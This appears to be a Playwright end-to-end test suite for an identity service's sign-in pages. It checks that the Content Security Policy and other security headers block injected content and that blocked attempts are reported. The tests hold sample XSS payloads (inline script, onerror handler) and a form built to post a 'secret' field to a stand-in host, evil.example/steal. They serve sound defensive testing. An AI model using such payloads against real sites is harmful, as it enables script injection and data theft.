import { readFileSync } from "node:fs";
import type { BrowserContext, Page } from "@playwright/test";
import { signInAtHera } from "../support/http";
import { ciam, iam, instance, portalUrl } from "../support/instance";
import { expect, test } from "../support/test";

const evil = "https://evil.example";

const reported = (service: "hera-ciam" | "hera-iam", directive: string) => {
  const log = instance.processes.find((process) => process.service === service)?.logFile ?? "";
  const lines = readFileSync(log, "utf8").split("\n");
  return lines.filter((line) => line.includes('"csp.blocked') && line.includes(`"directive":"${directive}"`));
};

/** The sign-in page as it would be if somebody had got markup into it; its headers are untouched. */
async function opensWith(page: Page, heraUrl: string, markup: string): Promise<void> {
  const answer = await page.goto(`${heraUrl}/login`);
  if (answer === null) throw new Error("No sign-in page");
  const body = (await answer.text()).replace("</body>", `${markup}</body>`);
  const headers = answer.headers();
  await page.route(answer.url(), (route) => route.fulfill({ headers, body }));
  await page.reload();
  await expect(page.getByRole("heading", { level: 1 })).toBeVisible();
}

for (const [service, half] of [
  ["hera-ciam", ciam],
  ["hera-iam", iam],
] as const) {
  test(`hard case 54: script and style injected into ${service} do not run, and are told`, async ({ page }) => {
    const markup = `<script>document.title = "owned"</script><img src="x" onerror="document.title = 'owned'"><style>h1 { color: red }</style>`;
    await opensWith(page, half.heraUrl, markup);
    await expect(page).not.toHaveTitle("owned");
    await expect(page.getByRole("heading", { level: 1 })).not.toHaveCSS("color", "rgb(255, 0, 0)");
    await expect.poll(() => reported(service, "script-src-elem").length, { timeout: 30_000 }).toBeGreaterThan(0);
    const lines = reported(service, "script-src-elem");
    expect(lines.at(-1)).toContain('"blocked":"inline"');
    expect(lines.at(-1)).toContain('"path":"/login"');
    expect(lines.join("\n"), "nothing of the address but its path").not.toMatch(/flow=|owned/);
  });
}

test("hard case 53: a page of Hera is not shown in another site's frame", async ({ page }) => {
  const other = `${portalUrl}/other-site`;
  await page.route(other, (route) =>
    route.fulfill({ contentType: "text/html", body: `<iframe src="${ciam.heraUrl}/signed-out"></iframe>` }),
  );
  await page.goto(other);
  await expect.poll(() => page.frames().map((frame) => frame.url())).toEqual([other, "chrome-error://chromewebdata/"]);
});

test("a form made to send elsewhere sends nothing", async ({ page }) => {
  const form = `<form action="${evil}/steal" method="post"><input name="typed" value="secret"></form>`;
  await opensWith(page, ciam.heraUrl, form);
  const sent: string[] = [];
  await watch(page.context(), sent);
  await page.evaluate(() => [...document.forms].at(-1)?.submit());
  await expect.poll(() => reported("hera-ciam", "form-action").length).toBeGreaterThan(0);
  expect(sent).toEqual([]);
});

test("a base element does not turn our addresses into another site's", async ({ page }) => {
  await opensWith(page, ciam.heraUrl, `<base href="${evil}/">`);
  expect(await page.evaluate(() => document.baseURI)).toContain(ciam.heraUrl);
});

test("nothing is loaded from another site", async ({ page }) => {
  const sent: string[] = [];
  await watch(page.context(), sent);
  const script = `<script src="${evil}/a.js"></script><link rel="stylesheet" href="${evil}/a.css">`;
  await opensWith(page, ciam.heraUrl, `${script}<img src="${evil}/a.png"><object data="${evil}/a.swf"></object>`);
  expect(sent).toEqual([]);
});

const watch = (context: BrowserContext, sent: string[]) =>
  context.route(`${evil}/**`, (route) => {
    sent.push(route.request().url());
    return route.fulfill({ body: "" });
  });

test("reports are bounded, and nothing but a report is taken", async ({ http }) => {
  const send = (type: string, body: string) =>
    http.send("POST", new URL(`${ciam.heraUrl}/reports`), { headers: { "content-type": type } }, body);
  const report = { "csp-report": { "document-uri": `${ciam.heraUrl}/login?flow=x`, "blocked-uri": "inline" } };
  expect((await send("application/csp-report", JSON.stringify(report))).status).toBe(204);
  expect((await send("application/reports+json", "[]")).status).toBe(204);
  expect((await send("application/json", JSON.stringify(report))).status).toBe(400);
  expect((await send("application/csp-report", "x".repeat(20_000))).status).toBe(413);
  const before = reported("hera-ciam", "img-src").length;
  for (let at = 0; at < 100; at += 1) {
    const blocked = { "csp-report": { "effective-directive": "img-src", "blocked-uri": `https://a${at}.example/` } };
    expect((await send("application/csp-report", JSON.stringify(blocked))).status).toBe(204);
  }
  // Five a minute, and the clock may strike meanwhile.
  expect(reported("hera-ciam", "img-src").length - before).toBeLessThanOrEqual(10);
});

const personal = [
  "/",
  "/settings",
  "/logout",
  "/login",
  "/registration",
  "/recovery",
  "/verification",
  "/consent",
  "/error",
];
const more = ["/signed-out", "/apps", "/sessions", "/nowhere", "/sessions/whoami", "/self-service/login/browser"];

test("no answer of Hera is stored, signed in or out, and each carries the whole policy", async ({ http, customer }) => {
  for (const who of ["nobody", "somebody"]) {
    if (who === "somebody") await signInAtHera(http, ciam, customer);
    for (const path of [...personal, ...more]) {
      const { headers } = await http.get(`${ciam.heraUrl}${path}`);
      expect(headers["cache-control"], `${path} for ${who}`).toMatch(/\bno-store\b/);
      expect(headers["content-security-policy"], path).toMatch(/form-action 'self'; report-uri \/reports/);
      expect(headers["content-security-policy"], path).not.toContain("unsafe-inline");
      expect(headers["referrer-policy"], path).toBe("same-origin");
      for (const name of ["cross-origin-opener-policy", "cross-origin-resource-policy"]) {
        expect(headers[name], `${name} of ${path}`).toBe("same-origin");
      }
      expect(headers["permissions-policy"], path).toContain("camera=()");
      expect(headers["x-content-type-options"], path).toBe("nosniff");
    }
  }
});
